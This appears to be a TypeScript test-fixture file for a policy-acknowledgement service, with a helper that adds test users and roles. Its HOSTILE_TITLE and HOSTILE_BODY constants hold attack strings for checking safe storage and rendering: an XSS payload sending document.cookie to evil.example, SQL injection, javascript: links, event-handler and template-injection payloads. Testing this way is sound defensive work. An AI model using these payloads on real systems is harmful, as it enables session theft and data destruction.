// For the policies' tests: users stored in the database (acknowledgements refer to them) and their
// access as the sign-in would compute it, and strings an attacker would try.
import { type Access, buildAccess, type Role } from '../../core/access';
import type { Db } from '../../core/db';
import { insertUserRow } from '../store';
import type { PolicyInput } from './service';

export interface TestUser {
  id: number;
  login: string;
  access: Access;
}

let seq = 0;

/** A user with one organisation-wide role (or none), active unless said otherwise. */
export async function addUser(
  h: Db,
  role: Role | null,
  opts: { name?: string; login?: string; status?: 'active' | 'disabled' } = {},
): Promise<TestUser> {
  const login = opts.login ?? `u${++seq}-${role ?? 'none'}@test.example`;
  const now = new Date().toISOString();
  const id = await insertUserRow(
    h.db,
    {
      login,
      name: opts.name ?? login.split('@')[0] ?? login,
      passwordHash: null,
      status: opts.status ?? 'active',
    },
    now,
  );
  const grants = role ? [{ role, unitId: null, presenceId: null }] : [];
  if (role) {
    await h.db
      .insertInto('grants')
      .values({ user_id: id, role, unit_id: null, presence_id: null, created_at: now, created_by: 'test' })
      .execute();
  }
  return { id, login, access: buildAccess({ userId: id, actor: login, personId: null, grants, units: [] }) };
}

/** Script, markup, SQL and odd characters: they must be stored and given back exactly, and render inert. */
export const HOSTILE_TITLE = `<script>alert('t')</script>"; DROP TABLE policies; -- <img src=x onerror=alert(1)>`;
export const HOSTILE_BODY = [
  '# Title <script>document.location="https://evil.example/?c="+document.cookie</script>',
  '',
  "Robert'); DROP TABLE acknowledgements;-- and 1=1 OR ''='",
  '<iframe src="javascript:alert(1)"></iframe> [click](javascript:alert(2)) <b onmouseover=alert(3)>x</b>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template placeholder, on purpose, as text.
  '${process.env.HOME} {{constructor.constructor("alert(4)")()}} \\u0000 \u202e émoji 🚲 日本語',
  '   indented    spaces\tand tabs   ',
].join('\n');

export function input(over: Partial<PolicyInput> = {}): PolicyInput {
  return {
    kind: 'policy',
    title: 'Politique d’usage des médias sociaux',
    language: 'fr',
    body: '# Politique\n\nTexte.',
    summary: null,
    ...over,
  };
}
